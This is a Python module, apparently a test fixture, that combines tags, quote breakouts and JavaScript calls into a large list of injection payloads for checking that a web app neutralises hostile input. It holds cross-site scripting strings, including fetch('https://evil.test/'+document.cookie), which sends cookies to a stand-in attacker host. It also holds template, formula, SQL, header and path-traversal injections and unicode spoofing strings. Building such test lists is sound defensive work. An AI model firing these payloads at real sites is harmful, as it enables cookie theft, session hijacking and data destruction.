"""Text that wants to be more than text. Every element and attribute in it has a name that no page uses."""

from __future__ import annotations

from itertools import product

_CALLS = (
    "alert(1)",
    "fetch('https://evil.test/'+document.cookie)",
    "location='https://evil.test'",
    "import('//evil.test')",
)
_TAGS = (
    "<script>{c}</script>",
    "<ScRiPt>{c}</sCrIpT>",
    "<script src=https://evil.test/x.js></script>{c}",
    "<img src=x onerror={c}>",
    "<img/src=x/onerror={c}//",
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>{c}</script>'></iframe>",
    "<iframe src=javascript:{c}></iframe>",
    "<body onload={c}>",
    "<details open ontoggle={c}>",
    "<video><source onerror={c}></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={c}>",
    "<object data=javascript:{c}></object>",
    "<embed src=javascript:{c}>",
    "<form action=javascript:{c}><button>x</button></form>",
    "<a href=javascript:{c}>x</a>",
    "<base href=https://evil.test/>{c}",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<link rel=stylesheet href=https://evil.test/x.css>{c}",
    "<style>@import 'https://evil.test/{c}'</style>",
    "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<!--><script>{c}</script>-->",
    "<![CDATA[<script>{c}</script>]]>",
    "<zz-marker zz-attr={c}>",
)
_BREAKS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "--></style>",
    "</option></select>",
    '\\"',
    "`",
)
_ATTRIBUTES = (
    '{b} onmouseover={c} zz-a="',
    '{b} autofocus onfocus={c} zz-b="',
    '{b} style=animation-name:x onanimationstart={c} zz-c="',
    "{b} accesskey=x onclick={c} zz-d='",
    '{b} hx-get=https://evil.test/ hx-trigger=load zz-e="',
    '{b} hx-on::load={c} zz-f="',
)
_OTHERS = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "java\tscript:{c}",
    "&#106;avascript:{c}",
    "data:text/html,<script>{c}</script>",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{c}",
    "%3Cscript%3E{c}%3C/script%3E",
    "\\u003cscript\\u003e{c}",
    "{{{{ {c} }}}}",
    "{{% debug %}}{c}",
    "{{% load static %}}{c}",
    "${{{c}}}",
    "#{{{c}}}",
    "<%= {c} %>",
    "%(name)s %s {{0}} {c}",
    "\u202egnp.exe{c}\u202c",
    "\u2066{c}\u2069\u200f",
    "＜script＞{c}＜/script＞",
    "‹script›{c}",
    "\ufeff<script>{c}</script>",
    "=cmd|'/c calc'!A0{c}",
    "+{c}",
    "-{c}",
    "@SUM({c})",
    "\t={c}",
    '＝HYPERLINK("https://evil.test","{c}")',
    "'; DROP TABLE accounts_user; -- {c}",
    "../../../etc/passwd{c}",
    "\r\nSet-Cookie: zz={c}",
    "]]>{c}",
    "𠮷😀" * 9 + "{c}",
)
PAYLOADS = tuple(
    dict.fromkeys(
        [b + t.format(c=c) for t, b, c in product(_TAGS, _BREAKS[:6], _CALLS[:3])]
        + [a.format(b=b, c=c) for a, b, c in product(_ATTRIBUTES, _BREAKS, _CALLS[:2])]
        + [o.format(c=c) for o, c in product(_OTHERS, _CALLS)]
    )
)
# Refused by forms, and not storable at all.
UNSTORABLE = ("a\x00b", "<scr\x00ipt>alert(1)</scr\x00ipt>", "\ud800", "x" * 60_000)
